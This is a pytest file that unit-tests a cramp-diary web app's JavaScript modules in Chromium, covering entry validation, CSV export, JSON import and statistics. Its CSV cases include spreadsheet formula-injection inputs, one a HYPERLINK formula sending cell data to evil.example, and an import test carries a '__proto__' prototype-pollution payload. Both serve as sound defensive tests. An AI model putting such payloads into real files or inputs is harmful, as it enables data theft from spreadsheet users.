"""The diary's pure modules case by case, in one Chromium page: an edge case is one more row.

The page is made up here, at http://localhost/unit/ (a secure origin, as the app's is), with
the diary's labels as the diary page carries them; its scripts are the collected ones (the
hashed names the app serves), answered from STATIC_ROOT by the browser context itself. No
server runs, so a case costs a millisecond.
"""

import json
import urllib.parse
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.staticfiles.storage import staticfiles_storage
from django.core.serializers.json import DjangoJSONEncoder
from django.utils import translation
from phone import CHROMIUM, CHROMIUM_ARGS

from guide.diary import words as diary_words

ORIGIN = "http://localhost"
MODULES = ["entry", "transfer", "pattern", "store", "context", "words"]
# Each call answers {value} or {error, reason, ...}: what a thrown ImportRefused carries.
CALL = """async ([path, args]) => {
    const [module, name] = path.split(".");
    try {
        return { value: await window.modules[module][name](...args) };
    } catch (error) {
        return { error: error.name, reason: error.reason ?? null, ...(error.detail ?? {}) };
    }
}"""


def unit_page():
    with translation.override("en"):
        words = json.dumps(diary_words.labels(), cls=DjangoJSONEncoder)
    urls = {name: staticfiles_storage.url(f"js/diary/{name}.js") for name in MODULES}
    imports = "\n".join(f'import * as {name} from "{url}";' for name, url in urls.items())
    return (
        '<!DOCTYPE html><html lang="en"><title>Units</title>'
        f'<script id="diary-labels" type="application/json">{words}</script>'
        f'<script type="module">{imports}\nwindow.modules = {{ {", ".join(MODULES)} }};</script>'
    )


class Units:
    def __init__(self, page):
        self.page = page

    def call(self, function, *arguments):
        return self.page.evaluate(CALL, [function, list(arguments)])

    def value(self, function, *arguments):
        answer = self.call(function, *arguments)
        assert "value" in answer, answer
        return answer["value"]

    def evaluate(self, script, argument=None):
        return self.page.evaluate(script, argument)


@pytest.fixture(scope="module")
def units(playwright):
    html = unit_page()
    static_root = Path(settings.STATIC_ROOT)
    browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
    context = browser.new_context(locale="en-US", timezone_id="UTC")

    def answer(route):
        path = urllib.parse.urlsplit(route.request.url).path
        if path == "/unit/":
            return route.fulfill(body=html, content_type="text/html")
        file = static_root / path.removeprefix(settings.STATIC_URL)
        if path.startswith(settings.STATIC_URL) and file.is_file():
            return route.fulfill(path=file)
        return route.fulfill(status=404)

    context.route(f"{ORIGIN}/**", answer)
    page = context.new_page()
    errors = []
    page.on("pageerror", lambda error: errors.append(error))
    page.goto(f"{ORIGIN}/unit/")
    page.wait_for_function("() => window.modules !== undefined")
    assert errors == []
    yield Units(page)
    context.close()
    browser.close()


@pytest.fixture
def units_with_empty_store(units):
    units.evaluate("() => window.modules.store.clear()")
    return units


# A whole entry as the form saves it.
ENTRY = {
    "id": "0b8f6a9e-2f7c-4d0e-9a57-3a1d2c4b5e6f",
    "at": "2026-11-26T03:10:00+01:00",
    "setting": "land",
    "muscle": "calf",
    "side": "left",
    "duration": "1-5",
    "severity": 6,
    "circumstance": "night",
    "helped": ["stretch"],
    "warnings": [],
    "note": "After a long walk",
    "updated": "2026-11-26T02:11:00.000Z",
}


def entry(**changes):
    return {**ENTRY, **changes}


ENTRY_CASES = {
    "a whole entry": (ENTRY, True),
    "only an id and a time": ({"id": "a", "at": "2026-11-26T03:10"}, True),
    "a time in UTC": (entry(at="2026-11-26T03:10:00Z"), True),
    "no id": (entry(id=""), False),
    "an id that is a number": (entry(id=7), False),
    "a muscle the diary does not know": (entry(muscle="elbow"), False),
    "a severity of 11": (entry(severity=11), False),
    "a severity of 2.5": (entry(severity=2.5), False),
    "a note too long": (entry(note="x" * 1001), False),
    "a note of the longest length": (entry(note="x" * 1000), True),
    "helped by something unknown": (entry(helped=["prayer"]), False),
    "warnings that are not a list": (entry(warnings="swollen"), False),
    "a list, not an entry": ([ENTRY], False),
    "nothing": (None, False),
}


@pytest.mark.parametrize(("case", "expected"), ENTRY_CASES.values(), ids=ENTRY_CASES.keys())
def test_is_entry(units, case, expected):
    assert units.value("entry.isEntry", case) is expected


def test_tidy_entry_fills_every_field_and_drops_repeats(units):
    tidy = units.value(
        "entry.tidyEntry", {"id": "a", "at": "2026-11-26T03:10", "helped": ["stretch", "stretch"]}
    )
    assert tidy == {
        "id": "a",
        "at": "2026-11-26T03:10",
        **dict.fromkeys(["setting", "muscle", "side", "duration", "circumstance"], ""),
        "severity": None,
        "helped": ["stretch"],
        "warnings": [],
        "note": "",
    }


def csv_rows(units, entries):
    return units.value("transfer.csv", entries).split("\r\n")


def test_csv_has_the_columns_in_english_and_the_oldest_first(units):
    later = entry(id="b", at="2026-11-27T01:00:00+01:00", helped=["stretch", "massage"])
    rows = csv_rows(units, [later, ENTRY])
    assert rows[0] == (
        "id,date_time,setting,muscle,side,duration,severity_0_to_10,circumstance,helped,"
        "warning_signs,note"
    )
    assert rows[1].startswith(f"{ENTRY['id']},2026-11-26T03:10:00+01:00,land,calf,left,1-5,6,")
    assert rows[2].startswith("b,")
    assert ",stretch;massage," in rows[2]
    assert rows[3] == ""  # the file ends with a line break


# A note as typed (or imported), and the note's cell as the CSV file writes it.
CSV_NOTES = {
    "plain": ("After a long walk", "After a long walk"),
    "a comma is quoted": ("calf, then foot", '"calf, then foot"'),
    "a quote is doubled": ('a "sharp" one', '"a ""sharp"" one"'),
    "a formula is defused": ("=1+1", "'=1+1"),
    "a plus is defused": ("+1", "'+1"),
    "a minus is defused": ("-1", "'-1"),
    "an at sign is defused": ("@SUM(A1)", "'@SUM(A1)"),
    # OWASP's CSV injection list: a spreadsheet may strip a leading tab or carriage return (B12).
    "a leading tab is defused": ("\t=1+1", "'\t=1+1"),
    "a leading carriage return is defused and quoted": ("\r=1+1", '"\'\r=1+1"'),
    "a tab before text is defused too": ("\tplain", "'\tplain"),
    "a formula after spaces is defused": ("  =1+1", "'  =1+1"),
    "a formula after a line break is defused and quoted": ("\n=1+1", '"\'\n=1+1"'),
    "a minus inside the text is left alone": ("pain 7-8", "pain 7-8"),
    "a formula with a link is defused and quoted": (
        '=HYPERLINK("https://evil.example/?"&A2,"Click")',
        '"\'=HYPERLINK(""https://evil.example/?""&A2,""Click"")"',
    ),
}


@pytest.mark.parametrize(("note", "cell"), CSV_NOTES.values(), ids=CSV_NOTES.keys())
def test_csv_cell_of_a_note(units, note, cell):
    row = csv_rows(units, [entry(note=note)])[1]
    assert row.endswith("," + cell)


def diary_file(**changes):
    data = {"format": "cramp-aid-diary", "version": 1, "entries": [ENTRY], "context": None}
    return json.dumps({**data, **changes})


PARSE_CASES = {
    "not JSON": ("{ this is not json", {"error": "Error", "reason": "malformed"}),
    "another app's file": (json.dumps({"entries": []}), {"error": "Error", "reason": "malformed"}),
    "a newer version": (diary_file(version=2), {"error": "Error", "reason": "newer"}),
    "version zero": (diary_file(version=0), {"error": "Error", "reason": "malformed"}),
    "entries that are no list": (diary_file(entries={}), {"error": "Error", "reason": "malformed"}),
}


@pytest.mark.parametrize(("text", "expected"), PARSE_CASES.values(), ids=PARSE_CASES.keys())
def test_parse_refuses(units, text, expected):
    answer = units.call("transfer.parse", text)
    assert {key: answer.get(key) for key in expected} == expected


# Issue 20 item 5: each entry is checked against the schema; the first wrong one is named by its
# place in the file, its time as written (or its id) and the field that is wrong.
BAD_ENTRIES = {
    "the 30th of February": (entry(at="2026-02-30T03:10:00+01:00"), "at"),
    "hour 25": (entry(at="2026-12-02T25:99"), "at"),
    "minute 60": (entry(at="2026-12-02T03:60"), "at"),
    "second 60": (entry(at="2026-12-02T03:10:60"), "at"),
    "an offset past 14 hours": (entry(at="2026-12-02T03:10:00+15:00"), "at"),
    "an offset of 99 minutes": (entry(at="2026-12-02T03:10:00+01:99"), "at"),
    "year 0900": (entry(at="0900-12-02T03:10:00"), "at"),
    "a time that is a number": (entry(at=1764640200000), "at"),
    "a muscle the diary does not know": (entry(muscle="elbow"), "muscle"),
    "a side that is a number": (entry(side=1), "side"),
    "a severity of 11": (entry(severity=11), "severity"),
    "a severity as text": (entry(severity="6"), "severity"),
    "a note too long": (entry(note="x" * 1001), "note"),
    "a note that is no text": (entry(note=["x"]), "note"),
    "helped by something unknown": (entry(helped=["prayer"]), "helped"),
    "more warnings than there are": (
        entry(warnings=["swollen"] * (len(diary_words.WARNING_SIGNS) + 1)),
        "warnings",
    ),
    "an edit time that is no time": (entry(updated="~"), "updated"),
    "an edit time of the 31st of April": (entry(updated="2026-04-31T00:00:00.000Z"), "updated"),
    "an id with a line break": (entry(id="a\nb"), "id"),
    "an id of 101 characters": (entry(id="a" * 101), "id"),
    "a list, not an entry": ([ENTRY], "entry"),
    "nothing": (None, "entry"),
}


@pytest.mark.parametrize(("bad", "field"), BAD_ENTRIES.values(), ids=BAD_ENTRIES.keys())
def test_parse_refuses_the_file_naming_its_bad_entry(units, bad, field):
    text = diary_file(entries=[entry(id="first"), bad, entry(id="third")])
    answer = units.call("transfer.parse", text)
    at = bad.get("at") if isinstance(bad, dict) else None
    name = at if isinstance(at, str) else bad.get("id") if isinstance(bad, dict) else ""
    assert answer == {
        "error": "Error",
        "reason": "entry",
        "number": 2,
        "name": name[:40],
        "field": field,
    }
    assert units.value("entry.isEntry", bad) is False


GOOD_CONTEXT = {
    "pregnant": "yes",
    "pregnancy": {"week": 20, "on": "2026-11-26"},
    "medicines": [{"kind": "statin", "name": "", "started": "2026-10-01"}],
    "doctorSeen": "no",
    "updated": "2026-11-26T02:11:00.000Z",
}


def context(**changes):
    return {**GOOD_CONTEXT, **changes}


BAD_CONTEXTS = {
    "a list": ([GOOD_CONTEXT], "context"),
    "pregnant as a number": (context(pregnant=1), "pregnant"),
    "week 0": (context(pregnancy={"week": 0, "on": "2026-11-26"}), "pregnancy"),
    "week 43": (context(pregnancy={"week": 43, "on": "2026-11-26"}), "pregnancy"),
    "a pregnancy dated the 30th of February": (
        context(pregnancy={"week": 20, "on": "2026-02-30"}),
        "pregnancy",
    ),
    "a medicine the diary does not know": (context(medicines=[{"kind": "aspirin"}]), "medicines"),
    "one medicine twice": (
        context(medicines=[{"kind": "statin"}, {"kind": "statin", "started": "2026-10-01"}]),
        "medicines",
    ),
    "a medicine's name too long": (
        context(medicines=[{"kind": "other", "name": "x" * 101}]),
        "medicines",
    ),
    "a medicine started the 32nd": (
        context(medicines=[{"kind": "statin", "started": "2026-10-32"}]),
        "medicines",
    ),
    "medicines that are no list": (context(medicines="statin"), "medicines"),
    "a doctor seen maybe": (context(doctorSeen="maybe"), "doctorSeen"),
    "an edit time that is no time": (context(updated="~"), "updated"),
}


@pytest.mark.parametrize(("bad", "field"), BAD_CONTEXTS.values(), ids=BAD_CONTEXTS.keys())
def test_parse_refuses_the_file_naming_its_bad_context(units, bad, field):
    answer = units.call("transfer.parse", diary_file(context=bad))
    assert answer == {"error": "Error", "reason": "context", "field": field}


def test_parse_drops_fields_it_does_not_know(units):
    # A file may carry anything beside the schema (the review's 2 MB "hidden"): none of it is kept.
    extra = {"hidden": "x" * 1000, "__proto__": {"polluted": True}, "constructor": "y"}
    medicine = {"kind": "statin", "name": "", "started": "2026-10-01", "dose": "high"}
    pregnancy = {"week": 20, "on": "2026-11-26", "due": "2027-04-01"}
    text = json.dumps(
        {
            "format": "cramp-aid-diary",
            "version": 1,
            "entries": [{**ENTRY, **extra}],
            "context": {**GOOD_CONTEXT, **extra, "medicines": [medicine], "pregnancy": pregnancy},
            "extra": extra,
        }
    )
    assert units.value("transfer.parse", text) == {"entries": [ENTRY], "context": GOOD_CONTEXT}
    assert units.evaluate("() => ({}).polluted") is None


def test_parse_reads_back_what_json_wrote(units):
    context = {
        "pregnant": "yes",
        "pregnancy": {"week": 20, "on": "2026-11-26"},
        "medicines": [{"kind": "statin", "name": "", "started": "2026-10-01"}],
        "doctorSeen": "no",
        "updated": "2026-11-26T02:11:00.000Z",
    }
    text = units.value("transfer.json", [ENTRY], context)
    assert units.value("transfer.parse", text) == {"entries": [ENTRY], "context": context}


WEEK_CASES = {
    "on the day given": ({"week": 20, "on": "2026-11-26"}, "2026-11-26", 20),
    "six days later": ({"week": 20, "on": "2026-11-26"}, "2026-12-02", 20),
    "a week later": ({"week": 20, "on": "2026-11-26"}, "2026-12-03", 21),
    "over a new year": ({"week": 20, "on": "2026-12-30"}, "2027-01-13", 22),
    "past 42 weeks it counts on": ({"week": 40, "on": "2026-11-26"}, "2026-12-31", 45),
    "no pregnancy": (None, "2026-11-26", None),
}


@pytest.mark.parametrize(("pregnancy", "today", "week"), WEEK_CASES.values(), ids=WEEK_CASES.keys())
def test_pregnancy_week(units, pregnancy, today, week):
    assert units.value("context.pregnancyWeek", pregnancy, today) == week


def test_past_42_weeks_the_summary_asks_for_an_update(units):
    lines = units.value(
        "context.contextLines",
        {"pregnant": "yes", "pregnancy": {"week": 40, "on": "2026-11-26"}},
        "2026-12-31",
    )
    assert lines == ["Pregnant (week 40 given on Nov 26, 2026: please update)"]


def test_weeks_count_the_last_seven_day_spans(units):
    entries = [
        entry(id="today", at="2026-11-26T23:00:00+01:00"),
        entry(id="six days ago", at="2026-11-20T01:00:00+01:00"),
        entry(id="a week ago", at="2026-11-19T01:00:00+01:00"),
        entry(id="out of the chart", at="2026-11-05T01:00:00+01:00"),
        entry(id="tomorrow", at="2026-11-27T01:00:00+01:00"),
    ]
    spans = units.value("pattern.perWeek", entries, "2026-11-26", 3)
    assert spans == [
        {"start": "2026-11-06", "count": 0},
        {"start": "2026-11-13", "count": 1},
        {"start": "2026-11-20", "count": 2},
    ]


USUAL_CASES = {
    "the most frequent": (["left", "right", "left"], "side", {"value": "left", "count": 2}),
    "a tie goes to the vocabulary's order": (
        ["right", "left"],
        "side",
        {"value": "left", "count": 1},
    ),
    "nothing answered": (["", ""], "side", {"value": "", "count": 0}),
}


@pytest.mark.parametrize(
    ("values", "kind", "expected"), USUAL_CASES.values(), ids=USUAL_CASES.keys()
)
def test_usual(units, values, kind, expected):
    assert units.value("pattern.usual", values, kind) == expected


def test_median_and_nights(units):
    assert units.value("pattern.median", [3, None, 9, 4]) == 4
    assert units.value("pattern.median", [3, 9, 4, 10]) == 6.5
    assert units.value("pattern.median", [None]) is None
    nights = [
        entry(id="1", at="2026-11-26T23:00:00+01:00", circumstance="night"),
        entry(id="2", at="2026-11-27T03:00:00+01:00", circumstance="night"),  # the same night
        entry(id="3", at="2026-11-27T15:00:00+01:00", circumstance="exercise"),
    ]
    assert units.value("pattern.nightsAffected", nights) == 1


def stored_entries(units):
    return units.evaluate("() => window.modules.store.entries()")


def test_merge_adds_new_entries_and_keeps_the_newer_edit(units_with_empty_store):
    units = units_with_empty_store
    first = units.value("store.merge", [ENTRY], None)
    assert first == {"added": 1, "updated": 0, "same": 0}
    older = entry(note="older", updated="2026-01-01T00:00:00.000Z")
    newer = entry(note="newer", updated="2026-12-01T00:00:00.000Z")
    assert units.value("store.merge", [older], None) == {"added": 0, "updated": 0, "same": 1}
    assert units.value("store.merge", [newer], None) == {"added": 0, "updated": 1, "same": 0}
    assert [each["note"] for each in stored_entries(units)] == ["newer"]


@pytest.mark.parametrize("newest_first", [True, False], ids=["newest first", "newest last"])
def test_a_file_with_one_id_twice_adds_one_entry_the_newest(units_with_empty_store, newest_first):
    # B11: both copies were counted as added, and the last one in the file won.
    units = units_with_empty_store
    older = entry(note="older", updated="2026-01-01T00:00:00.000Z")
    newer = entry(note="newer", updated="2026-12-01T00:00:00.000Z")
    twice = [newer, older] if newest_first else [older, newer]
    assert units.value("store.merge", twice, None) == {"added": 1, "updated": 0, "same": 0}
    assert [each["note"] for each in stored_entries(units)] == ["newer"]
    # Already here: the pair counts once, as the newer edit it brings or as the same.
    units.evaluate("() => window.modules.store.clear()")
    units.value("store.merge", [older], None)
    assert units.value("store.merge", twice, None) == {"added": 0, "updated": 1, "same": 0}
    assert [each["note"] for each in stored_entries(units)] == ["newer"]
    assert units.value("store.merge", twice, None) == {"added": 0, "updated": 0, "same": 1}
